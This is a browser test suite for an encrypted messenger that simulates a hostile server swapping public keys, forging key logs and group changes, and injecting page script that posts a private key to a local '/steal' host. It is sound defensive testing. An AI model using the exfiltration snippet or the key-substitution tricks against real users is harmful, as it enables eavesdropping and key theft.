import { exportPublicKeySpkiBase64, generateUserKeyPair } from '@veil/crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { HostileProxy } from '@veil/test-env';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  createGroupOverApi,
  currentUserId,
  eventually,
  login,
  messageWithText,
  openChat,
  openChatFromUsers,
  restoreDialog,
  saveRecoveryKey,
  sayHi,
  sendMessage,
  signedUpPerson,
} from './flows.ts';
import { useVeilWeb } from './harness.ts';

const password = 'correct horse 1';

/** Every string of a JSON value, however deep. */
const stringsOf = (value: unknown): string[] =>
  typeof value === 'string'
    ? [value]
    : Array.isArray(value)
      ? value.flatMap(stringsOf)
      : value && typeof value === 'object'
        ? Object.values(value).flatMap(stringsOf)
        : [];

/**
 * The attacker's attempt: every 256-byte base64 value the browsers sent through the proxy (each
 * wrapped message key for a 2048-bit RSA key is one: in send bodies, socket sends, edits,
 * re-wrapped copies), opened with the attacker's private key. Resolves how many were tried and
 * how many opened.
 */
const attackerOpens = async (proxy: HostileProxy, privateKey: CryptoKey) => {
  const sent = [
    ...proxy.requests.map((request) => request.body),
    ...proxy.events.filter((event) => event.direction === 'toServer').map((event) => event.args),
  ];
  const candidates = new Set(
    stringsOf(sent).filter(
      (text) => /^[A-Za-z0-9+/]+={0,2}$/.test(text) && Buffer.from(text, 'base64').length === 256,
    ),
  );
  let opened = 0;
  for (const candidate of candidates) {
    try {
      await crypto.subtle.decrypt({ name: 'RSA-OAEP' }, privateKey, Buffer.from(candidate, 'base64'));
      opened += 1;
    } catch {
      // sealed for someone else: what the browsers must do
    }
  }
  return { tried: candidates.size, opened };
};

/** A JSON answer of Veil's API (`{success, message, data}`). */
interface Answer<T> {
  success: boolean;
  data: T;
}

/**
 * The server plays the attacker: a proxy in front of a stock Veil changes a few answers, and
 * each person is a Chromium context of their own. For each attack the browser shows what it
 * states, and the attacker, holding its own private key, opens nothing the browsers sent.
 */
describe('a hostile server (browser)', { timeout: 240_000 }, () => {
  const veil = useVeilWeb({ hostile: true });
  let attacker: { privateKey: CryptoKey; publicKey: string };

  beforeAll(async () => {
    const keys = await generateUserKeyPair();
    attacker = { privateKey: keys.privateKey, publicKey: await exportPublicKeySpkiBase64(keys.publicKey) };
  });

  /** Two people with a chat between them, open on both sides. */
  const pair = async (prefix: string) => {
    const alice = await signedUpPerson(veil(), `${prefix}a`);
    const bob = await signedUpPerson(veil(), `${prefix}b`);
    const [aliceId, bobId] = await Promise.all([currentUserId(alice.page), currentUserId(bob.page)]);
    return { alice: { ...alice, id: aliceId }, bob: { ...bob, id: bobId } };
  };

  const reopen = async (page: Page, title: string) => {
    await page.reload();
    await openChat(page, title);
  };

  it("seals for the key of the recipient's checked log, whatever GET /user/publicKey answers", async () => {
    const proxy = veil().proxy;
    // Every public key the server hands out is the attacker's, the sender's own included.
    proxy.rewriteJson({ method: 'GET', path: '/api/v1/user/publicKey/:id' }, (body) => ({
      ...(body as Answer<object>),
      data: { ...(body as Answer<object>).data, publicKey: attacker.publicKey },
    }));
    const { alice, bob } = await pair('pk');

    await sayHi(alice.page, bob.name);
    await sendMessage(alice.page, 'Only for Bob');
    await openChat(bob.page, alice.name);
    await messageWithText(bob.page, 'Only for Bob').waitFor();
    await messageWithText(alice.page, 'Only for Bob').waitFor();

    // The browsers never asked for it, and nothing they sent opens with the attacker's key.
    expect(proxy.requests.filter((request) => request.path.startsWith('/api/v1/user/publicKey/'))).toEqual(
      [],
    );
    const attempt = await attackerOpens(proxy, attacker.privateKey);
    expect(attempt.tried).toBeGreaterThanOrEqual(4);
    expect(attempt.opened).toBe(0);
  });

  it("blocks sending while the recipient's key log does not check out, and sends on Retry once it does", async () => {
    const proxy = veil().proxy;
    const { alice, bob } = await pair('kl');
    await sayHi(alice.page, bob.name);
    await openChat(bob.page, alice.name);

    // Alice is shown a log for Bob whose head names the attacker's key; its chain does not hold.
    proxy.rewriteJson({ method: 'GET', path: '/api/v1/users/:id/keyLog' }, (body, { params, viewer }) => {
      if (params.id !== bob.id || viewer !== alice.id) return undefined;
      const { data } = body as Answer<{
        entries: Record<string, unknown>[];
        current: Record<string, unknown>;
      }>;
      const entries = data.entries.map((entry, index) =>
        index === data.entries.length - 1 ? { ...entry, encryptionKey: attacker.publicKey } : entry,
      );
      return {
        ...(body as object),
        data: { entries, current: { ...data.current, encryptionKey: attacker.publicKey } },
      };
    });
    await reopen(alice.page, bob.name);
    const blocked = alice.page.getByRole('alert').and(alice.page.getByTestId('key-check-block'));
    await expect.poll(() => blocked.innerText()).toContain(`${bob.name}'s keys could not be checked:`);
    await expect.poll(() => blocked.innerText()).toMatch(/key history/);
    await blocked.getByRole('button', { name: 'Retry' }).waitFor();

    // A message written meanwhile is not sent, and not lost: it says why, with Retry.
    await sendMessage(alice.page, 'Wait for checked keys');
    const pending = alice.page.getByTestId('pending-message').filter({ hasText: 'Wait for checked keys' });
    await expect.poll(() => pending.getAttribute('data-status')).toBe('failed');
    await expect.poll(() => pending.innerText()).toContain(`${bob.name}'s keys could not be checked:`);

    // The proxy stops lying; Retry checks again and sends what waited.
    proxy.behave();
    await blocked.getByRole('button', { name: 'Retry' }).click();
    await messageWithText(bob.page, 'Wait for checked keys').waitFor();
    await expect.poll(() => blocked.count()).toBe(0);

    const attempt = await attackerOpens(proxy, attacker.privateKey);
    expect(attempt.tried).toBeGreaterThanOrEqual(4);
    expect(attempt.opened).toBe(0);
  });

  it('refuses a contact whose key log is served empty, though this browser has never seen them', async () => {
    const proxy = veil().proxy;
    const { alice, bob } = await pair('ke');
    // An account never has an empty log: served one, with the attacker's key as current, the
    // browser has nothing to trust on first use and seals nothing.
    proxy.rewriteJson({ method: 'GET', path: '/api/v1/users/:id/keyLog' }, (body, { params, viewer }) =>
      params.id === bob.id && viewer === alice.id
        ? {
            ...(body as object),
            data: { entries: [], current: { encryptionKey: attacker.publicKey, signingKey: null } },
          }
        : undefined,
    );
    await openChatFromUsers(alice.page, bob.name);
    const blocked = alice.page.getByRole('alert').and(alice.page.getByTestId('key-check-block'));
    await expect.poll(() => blocked.innerText()).toContain(`${bob.name}'s keys could not be checked:`);
    await expect.poll(() => blocked.innerText()).toContain('there is no key history');
    await sendMessage(alice.page, 'Not for the server');
    const pending = alice.page.getByTestId('pending-message').filter({ hasText: 'Not for the server' });
    await expect.poll(() => pending.getAttribute('data-status')).toBe('failed');
    expect((await attackerOpens(proxy, attacker.privateKey)).opened).toBe(0);
  });

  it("re-wraps history only to a reset of the account's own checked log, never to what keyStatus names", async () => {
    const proxy = veil().proxy;
    const { alice, bob } = await pair('ks');
    await sayHi(bob.page, alice.name);
    await sendMessage(bob.page, 'Before the reset');
    await openChat(alice.page, bob.name);
    await messageWithText(alice.page, 'Before the reset').waitFor();

    // Alice's own key status names the attacker's key, published just now.
    proxy.rewriteJson({ method: 'GET', path: '/api/v1/user/keyStatus' }, (body, { viewer }) =>
      viewer === alice.id
        ? {
            ...(body as object),
            data: {
              ...(body as Answer<object>).data,
              publicKey: attacker.publicKey,
              publishedAt: new Date().toISOString(),
            },
          }
        : undefined,
    );
    // Her browser, which holds her (older) key, opens again: nothing is re-wrapped.
    await reopen(alice.page, bob.name);
    await messageWithText(alice.page, 'Before the reset').waitFor();

    // A real reset of her own log, from a browser without her key (the lie goes on).
    const elsewhere = await veil().newPage();
    await login(elsewhere, alice.name, password);
    await restoreDialog(elsewhere).getByRole('button', { name: 'I lost my key: start fresh' }).click();
    const reset = elsewhere.getByRole('dialog', { name: 'I lost my key: start fresh' });
    await reset.getByRole('button', { name: 'Start fresh' }).click();
    await saveRecoveryKey(elsewhere, 'Reset my keys');
    // The reset is stored once the new browser shows the history as from before it.
    await openChat(elsewhere, bob.name);
    await expect.poll(() => elsewhere.getByText('Sent before your key was reset').count()).toBe(2);

    // Her first browser re-wraps for the reset's key, and says so; whichever comes first, the
    // status or a copy the attacker opens, the attacker's attempt is judged first.
    await alice.page.reload();
    const done = alice.page
      .getByRole('status')
      .filter({ hasText: 'Older messages are readable with your new key.' });
    await expect
      .poll(
        async () => (await done.count()) > 0 || (await attackerOpens(proxy, attacker.privateKey)).opened > 0,
        {
          timeout: 30_000,
        },
      )
      .toBe(true);
    expect((await attackerOpens(proxy, attacker.privateKey)).opened).toBe(0);
    await done.waitFor();
    await eventually(async () => {
      await reopen(elsewhere, bob.name);
      await messageWithText(elsewhere, 'Before the reset').waitFor({ timeout: 2_000 });
    });

    const rewraps = proxy.requests.filter((request) => request.path === '/api/v1/message/rewrap');
    expect(rewraps.length).toBeGreaterThan(0);
    const attempt = await attackerOpens(proxy, attacker.privateKey);
    expect(attempt.tried).toBeGreaterThanOrEqual(4);
    expect(attempt.opened).toBe(0);
  });

  it("keeps a script in the page from reaching any other host, while the app's own socket connects", async () => {
    // Another host, as a script injected into the page would post stolen keys to.
    let reached = 0;
    const elsewhere = createServer((_req, res) => {
      reached += 1;
      res.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
    });
    elsewhere.on('upgrade', (_req, socket) => {
      reached += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    const otherHost = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    try {
      const { alice, bob } = await pair('csp');
      await sayHi(alice.page, bob.name);
      await openChat(bob.page, alice.name);
      // The app's own socket works: a message goes over it and arrives live.
      await sendMessage(alice.page, 'Over the socket');
      await messageWithText(bob.page, 'Over the socket').waitFor();
      expect(
        veil().proxy.events.some((event) => event.viewer === alice.id && event.name === 'send message'),
      ).toBe(true);

      const violations = () =>
        alice.page.evaluate(() => (window as { cspViolations?: string[] }).cspViolations);
      const tried = await alice.page.evaluate(async (host) => {
        const seen: string[] = [];
        (window as { cspViolations?: string[] }).cspViolations = seen;
        document.addEventListener('securitypolicyviolation', (event) =>
          seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
        );
        const posted = await fetch(`http://${host}/steal`, { method: 'POST', body: 'a private key' }).then(
          () => 'sent',
          () => 'refused',
        );
        const socket = await new Promise<string>((resolve) => {
          try {
            const ws = new WebSocket(`ws://${host}/steal`);
            ws.onopen = () => resolve('open');
            ws.onerror = () => resolve('refused');
          } catch {
            resolve('refused');
          }
        });
        return { posted, socket };
      }, otherHost);
      expect(tried).toEqual({ posted: 'refused', socket: 'refused' });
      // Chromium reports both as violations of connect-src.
      await expect
        .poll(violations)
        .toEqual(
          expect.arrayContaining([
            `connect-src http://${otherHost}/steal`,
            `connect-src ws://${otherHost}/steal`,
          ]),
        );
      expect(reached).toBe(0);
    } finally {
      await new Promise((resolve) => elsewhere.close(resolve));
    }
  });

  it('shows forged "added" and timer changes as unverified, and seals, counts, times and names by the signed state only', async () => {
    const proxy = veil().proxy;
    const { alice, bob } = await pair('ga');
    const mallory = await signedUpPerson(veil(), 'gam');
    const malloryId = await currentUserId(mallory.page);
    const groupName = `Crew ${alice.id.slice(-6)}`;
    const chatId = await createGroupOverApi(alice.page, groupName, [bob.id]);
    // The group was made unsigned: Bob, not an admin, is told so; Alice, its admin, opens it and
    // her browser signs its state, which Bob's open group info then says.
    await openChat(bob.page, groupName);
    await bob.page.getByRole('button', { name: 'Group info' }).click();
    await bob.page
      .getByTestId('group-signing')
      .filter({ hasText: "This group's membership is not signed yet" })
      .waitFor();
    await openChat(alice.page, groupName);
    await bob.page
      .getByTestId('group-signing')
      .filter({ hasText: `Group state signed by ${alice.name} on` })
      .waitFor();
    await bob.page.getByRole('button', { name: 'Close' }).click();
    await expect
      .poll(async () =>
        (
          await alice.page.evaluate(
            async (id) =>
              (
                await (
                  await fetch(`/api/v1/chat/${id}/changes`, {
                    headers: { Authorization: `Bearer ${localStorage.getItem('accesstoken')}` },
                  })
                ).json()
              ).data as { type: string }[],
            chatId,
          )
        ).map((entry) => entry.type),
      )
      .toEqual(['GroupChatCreated', 'GroupStateSigned']);
    await alice.page
      .getByRole('combobox', { name: 'Disappearing messages' })
      .selectOption({ label: '1 week' });
    await alice.page
      .getByTestId('system-line')
      .filter({ hasText: 'You set disappearing messages' })
      .waitFor();

    // The server now says Alice added Mallory and Bob set the timer to 1 hour: in the chat's
    // view, as notices and as changes, all unsigned. It also calls the group by a name no admin
    // signed. Mallory's public key is the attacker's.
    const forgedName = `Pwned ${alice.id.slice(-6)}`;
    const addedAt = new Date().toISOString();
    const timerAt = new Date(Date.parse(addedAt) + 1).toISOString();
    const person = (id: string, username: string) => ({ _id: id, username, profilePicture: null });
    const forgedEntries = [
      { type: 'ChatMembersAdded', by: alice.id, at: addedAt, signedChange: null },
      { type: 'DisappearingTimerSet', by: bob.id, at: timerAt, signedChange: null },
    ];
    const forgedNotices = [
      {
        kind: 'added',
        by: person(alice.id, alice.name),
        members: [person(malloryId, mallory.name)],
        at: addedAt,
      },
      { kind: 'timer', by: person(bob.id, bob.name), members: [], seconds: 3600, at: timerAt },
    ];
    type Chat = { _id: string; participants: object[]; notices?: object[] };
    const forged = (chat: Chat) =>
      chat._id === chatId
        ? {
            ...chat,
            participants: [...chat.participants, person(malloryId, mallory.name)],
            notices: [...(chat.notices ?? []), ...forgedNotices],
            disappearingSeconds: 3600,
            chatName: forgedName,
          }
        : chat;
    proxy.rewriteJson({ method: 'GET', path: `/api/v1/chat/${chatId}/changes` }, (body) => ({
      ...(body as Answer<object[]>),
      data: [...(body as Answer<object[]>).data, ...forgedEntries],
    }));
    proxy.rewriteJson({ method: 'GET', path: '/api/v1/chat/getchatbyid/:id' }, (body) => ({
      ...(body as Answer<Chat>),
      data: forged((body as Answer<Chat>).data),
    }));
    proxy.rewriteJson({ method: 'GET', path: '/api/v1/chat/getallchats' }, (body) => ({
      ...(body as Answer<Chat[]>),
      data: (body as Answer<Chat[]>).data.map(forged),
    }));
    proxy.rewriteJson({ method: 'GET', path: `/api/v1/user/publicKey/${malloryId}` }, (body) => ({
      ...(body as Answer<object>),
      data: { ...(body as Answer<object>).data, publicKey: attacker.publicKey },
    }));
    await reopen(alice.page, groupName);
    const unverifiedLines = (page: Page) =>
      page
        .getByTestId('system-line')
        .filter({ hasText: 'This change could not be verified: it is not signed' });
    await expect.poll(() => unverifiedLines(alice.page).count()).toBe(2);
    const changeFetches = () =>
      proxy.requests.filter(
        (request) => request.viewer === alice.id && request.path === `/api/v1/chat/${chatId}/changes`,
      ).length;
    const changeFetchesBeforeSends = changeFetches();
    await sendMessage(alice.page, 'Not for Mallory');
    await sendMessage(alice.page, 'Still not for Mallory');
    await reopen(bob.page, groupName);
    await messageWithText(bob.page, 'Still not for Mallory').waitFor();

    for (const page of [alice.page, bob.page]) {
      // Both forged changes read as unverified; the server's wording of them never shows.
      await expect.poll(() => unverifiedLines(page).count()).toBe(2);
      // Alice's signed change reads as it always did.
      await page
        .getByTestId('system-line')
        .filter({ hasText: 'set disappearing messages to 1 week' })
        .waitFor();
      expect(await page.getByTestId('system-line').filter({ hasText: mallory.name }).count()).toBe(0);
      expect(await page.getByTestId('system-line').filter({ hasText: '1 hour' }).count()).toBe(0);
      // The name is the signed one, in the header and in the chat list.
      await page.getByTestId('chat-title').filter({ hasText: groupName }).waitFor();
      await page.getByTestId('chat-item').filter({ hasText: groupName }).waitFor();
      expect(await page.getByTestId('chat-item').filter({ hasText: forgedName }).count()).toBe(0);
      // The timer is the signed one, the members the signed ones, and each message counts them.
      await expect
        .poll(() => page.getByTestId('disappearing-timer').inputValue())
        .toBe(String(7 * 24 * 3600));
      expect(await page.locator('.chat-header__members').textContent()).not.toContain(mallory.name);
      await expect
        .poll(() =>
          page.getByTestId('seal-status').getByRole('button', { name: 'Sealed for 2 of 2' }).count(),
        )
        .toBe(2);
    }
    // Bob's group info says who signed the state it started from.
    await bob.page.getByRole('button', { name: 'Group info' }).click();
    await bob.page
      .getByTestId('group-signing')
      .filter({ hasText: `Group state signed by ${alice.name} on` })
      .waitFor();
    await bob.page.getByRole('button', { name: 'Close' }).click();

    // The key maps Alice's browser sent name Alice and Bob only.
    // Only this group's sends: the proxy records every test of this file.
    const sent = [
      ...proxy.requests
        .filter((request) => request.path.includes(`sendGroupMessage/${chatId}`))
        .map((r) => r.body),
      ...proxy.events
        .filter((event) => event.direction === 'toServer' && event.name === 'send message')
        .map((e) => e.args[0])
        .filter((payload) => (payload as { chatId?: string }).chatId === chatId),
    ] as { chatId?: string; encryptedKeys: Record<string, string>; encryptedMessage: string }[];
    expect(sent.length).toBeGreaterThanOrEqual(2);
    for (const message of sent)
      expect(Object.keys(message.encryptedKeys).sort()).toEqual([alice.id, bob.id].sort());
    // Two texts of different lengths, one size bucket: the server sees equal ciphertexts (256
    // padded bytes and the 16-byte tag).
    expect(new Set(sent.map((message) => Buffer.from(message.encryptedMessage, 'base64').length))).toEqual(
      new Set([256 + 16]),
    );
    // Nothing any browser sent opens with the key the server gave for Mallory.
    const attempt = await attackerOpens(proxy, attacker.privateKey);
    expect(attempt.tried).toBeGreaterThanOrEqual(4);
    expect(attempt.opened).toBe(0);
    // The sends reused the chain verified when the chat opened: nothing changed, nothing fetched.
    expect(changeFetches()).toBe(changeFetchesBeforeSends);
    proxy.behave();
  });
});
